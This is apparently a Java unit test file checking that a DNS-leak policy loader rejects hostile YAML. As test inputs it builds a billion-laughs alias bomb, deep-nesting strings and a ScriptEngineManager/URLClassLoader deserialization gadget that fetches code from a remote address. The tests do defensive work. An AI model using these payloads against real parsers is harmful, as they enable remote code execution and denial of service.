package org.leakguard.agent.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** The loader reads YAML as untrusted input: bounded size, aliases, nesting, and no object tags. */
@Timeout(10)
class YamlSafetyTest {
    private static final String HEAD = "apiVersion: leakguard/v1\nkind: DnsLeakPolicy\nmetadata: {name: a}\n";

    private final PolicyLoader loader = new PolicyLoader();

    @Test
    void billionLaughsIsRefusedBeforeItExpands() {
        StringBuilder yaml = new StringBuilder(HEAD).append("spec:\n  l0: &l0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n");
        for (int level = 1; level <= 9; level++) {
            yaml.append("  l").append(level).append(": &l").append(level).append(" [");
            yaml.append(("*l" + (level - 1) + ", ").repeat(8)).append("*l").append(level - 1).append("]\n");
        }

        PolicyException e = error(yaml.toString());

        assertThat(e.problem()).isEqualTo("aliases expand to more than 10000 YAML nodes; write the values out");
        assertThat(e.keyPath()).startsWith("spec.l4[");
        assertThat(e.line()).isEqualTo(9);
    }

    @Test
    void moreThanFiftyAliasesAreRefused() {
        StringBuilder yaml = new StringBuilder(HEAD).append("spec:\n  resolvers:\n    searchDomains: [&d corp.example");
        yaml.append(", *d".repeat(EventGuard.MAX_ALIASES + 1)).append("]\n");

        PolicyException e = error(yaml.toString());

        assertThat(e.problem()).isEqualTo("more than 50 aliases (*name); write the values out");
        assertThat(e.keyPath()).isEqualTo("spec.resolvers.searchDomains[51]");
        assertThat(e.line()).isEqualTo(6);
        // "    searchDomains: [&d corp.example" ends at column 35; each ", *d" adds 4.
        assertThat(e.column()).isEqualTo(38 + 4 * EventGuard.MAX_ALIASES);
    }

    @Test
    void fiftyDoublingAliasesCannotExpandPastTheNodeBudget() {
        // 25 levels of two aliases each stays within 50 aliases but would build 2^25 nodes.
        StringBuilder yaml = new StringBuilder(HEAD).append("spec:\n  d0: &d0 [x]\n");
        for (int level = 1; level <= 25; level++) {
            yaml.append("  d").append(level).append(": &d").append(level)
                    .append(" [*d").append(level - 1).append(", *d").append(level - 1).append("]\n");
        }

        assertThat(error(yaml.toString()).problem()).startsWith("aliases expand to more than 10000");
    }

    @Test
    void aliasesWithinLimitsExpandToTheAnchoredValue() throws PolicyException {
        String yaml = HEAD + """
                spec:
                  resolvers:
                    servers: &dns [203.0.113.53, "2001:db8::53"]
                  verify:
                    canary:
                      domain: leaktest.corp.example
                      api: http://192.0.2.10:8080/v1/observations/{id}
                      expect: *dns
                """;

        Policy p = parse(yaml);

        assertThat(p.spec().verify().canary().expect()).isEqualTo(p.spec().resolvers().servers()).hasSize(2);
    }

    @Test
    void aliasErrorsPointAtTheAnchoredText() {
        String yaml = HEAD + "spec:\n  resolvers:\n    tlsName: &n dns.corp.example\n"
                + "    searchDomains: [corp.example, *n]\n  ipv6: *n\n";

        PolicyException e = error(yaml);

        assertThat(e.keyPath()).isEqualTo("spec.ipv6");
        assertThat(e.line()).isEqualTo(6);
        assertThat(e.problem()).isEqualTo("\"dns.corp.example\" is not one of disable, keep");
    }

    @Test
    void aliasToItsOwnNodeIsRefused() {
        assertThat(error(HEAD + "spec: &s {verify: *s}\n").problem())
                .isEqualTo("alias *s refers to the node that contains it");
    }

    @Test
    void nestingDeeperThanFiftyIsRefused() {
        // Jackson reads an unknown key's whole value before reporting it, so this is parsed.
        String flow = HEAD + "x: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";

        PolicyException e = error(flow);

        assertThat(e.problem()).startsWith("nesting is deeper than 50 levels");
        assertThat(e.line()).isEqualTo(4);
        // The document is level 1, so the 50th bracket (column 4 + 49) is level 51.
        assertThat(e.column()).isEqualTo(4 + 49);
    }

    @Test
    void blockNestingIsCountedToo() {
        StringBuilder yaml = new StringBuilder(HEAD);
        for (int depth = 0; depth < 60; depth++) {
            yaml.append("  ".repeat(depth)).append("k").append(depth).append(":\n");
        }

        assertThat(error(yaml.toString()).problem()).startsWith("nesting is deeper than 50 levels");
    }

    @Test
    void fiftyLevelsAreNotANestingProblem() {
        String yaml = HEAD + "x: " + "[".repeat(49) + "]".repeat(49) + "\n";

        assertThat(error(yaml).problem()).startsWith("unknown key \"x\"");
    }

    @Test
    void fileOverOneMebibyteIsRefusedUnread(@TempDir Path dir) throws Exception {
        Path big = dir.resolve("big.yaml");
        byte[] bytes = (HEAD + "#" + "x".repeat(PolicyLoader.MAX_BYTES) + "\n").getBytes(StandardCharsets.UTF_8);
        Files.write(big, bytes);

        PolicyException fromFile = catchThrowableOfType(PolicyException.class, () -> loader.load(big));
        PolicyException fromBytes = catchThrowableOfType(PolicyException.class, () -> loader.parse("big.yaml", bytes));

        assertThat(fromFile.getMessage()).isEqualTo(big + ": larger than 1048576 bytes (1 MiB), the most a"
                + " policy may be; is this the right file?");
        assertThat(fromBytes.line()).isZero();
    }

    @Test
    void fileOfExactlyOneMebibyteIsRead() {
        String body = HEAD + "#";
        String yaml = body + "x".repeat(PolicyLoader.MAX_BYTES - body.length() - 1) + "\n";
        assertThat(yaml).hasSize(PolicyLoader.MAX_BYTES);

        assertThatCode(() -> parse(yaml)).doesNotThrowAnyException();
    }

    @Test
    void javaObjectTagIsRefused() {
        PolicyException e = error(HEAD + "spec:\n  resolvers:\n    dohTemplate: !!java.net.URL [\"https://192.0.2.1/\"]\n");

        assertThat(e.problem()).startsWith("the YAML tag !!java.net.URL is not allowed");
        assertThat(e.keyPath()).isEqualTo("spec.resolvers.dohTemplate");
        assertThat(e.line()).isEqualTo(6);
        assertThat(e.column()).isEqualTo(18);
    }

    @Test
    void scriptEngineGadgetIsRefused() {
        String gadget = "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://192.0.2.1/\"]]]]";

        PolicyException e = error(HEAD + "spec: " + gadget + "\n");

        assertThat(e.problem()).startsWith("the YAML tag !!javax.script.ScriptEngineManager is not allowed");
        assertThat(e.keyPath()).isEqualTo("spec");
        assertThat(e.column()).isEqualTo(7);
    }

    @Test
    void tagOnTheFirstKeyOfAMappingIsSeen() {
        PolicyException e = error("!!javax.script.ScriptEngineManager apiVersion: leakguard/v1\n");

        assertThat(e.keyPath()).isEqualTo("apiVersion");
        assertThat(e.problem()).startsWith("the YAML tag !!javax.script.ScriptEngineManager");
    }

    @Test
    void localAndRedefinedTagsAreRefused() {
        assertThat(error(HEAD + "spec: !policy {}\n").problem()).startsWith("the YAML tag !policy ");
        String redefined = "%TAG !! tag:example.com,2000:\n---\n" + HEAD + "spec: !!map {}\n";
        assertThat(error(redefined).problem()).startsWith("the YAML tag tag:example.com,2000:map ");
    }

    @Test
    void coreTagsAreAccepted() throws PolicyException {
        Policy p = parse(HEAD + "spec: !!map\n  verify: !!map {probes: !!bool false, timeout: !!str 2s}\n");

        assertThat(p.spec().verify().probes()).isFalse();
        assertThat(p.spec().verify().timeout()).isEqualTo(Duration.ofSeconds(2));
    }

    @Test
    void hostnameWhereAnAddressBelongsIsNotLookedUp() {
        // "localhost" resolves everywhere without a network; a loader that looked names up
        // would accept it. Refusing it shows that the text is parsed, never resolved.
        PolicyException local = error(HEAD + "spec:\n  resolvers:\n    servers: [localhost]\n");
        PolicyException invalid = error(HEAD + "spec:\n  verify:\n    forbidden: [resolver.invalid]\n");

        assertThat(local.problem()).startsWith("\"localhost\" is not an IP address literal; names are not looked up");
        assertThat(local.keyPath()).isEqualTo("spec.resolvers.servers[0]");
        assertThat(invalid.keyPath()).isEqualTo("spec.verify.forbidden[0]");
    }

    @Test
    void everyParserTheMapperMakesIsGuarded() throws Exception {
        String tagged = "a: !!java.net.URL x\n";
        try (var fromString = PolicyMapper.MAPPER.createParser(tagged);
                var fromStream = PolicyMapper.MAPPER.createParser(new ByteArrayInputStream(tagged.getBytes(StandardCharsets.UTF_8)))) {
            assertThat(fromString).isInstanceOf(StrictYamlParser.class);
            assertThat(fromStream).isInstanceOf(StrictYamlParser.class);
        }
    }

    private Policy parse(String yaml) throws PolicyException {
        return loader.parse("p.yaml", yaml.getBytes(StandardCharsets.UTF_8)).policy();
    }

    private PolicyException error(String yaml) {
        PolicyException e = catchThrowableOfType(PolicyException.class, () -> parse(yaml));
        assertThat(e).as("expected a PolicyException").isNotNull();
        assertThat(e.file()).isEqualTo("p.yaml");
        return e;
    }
}
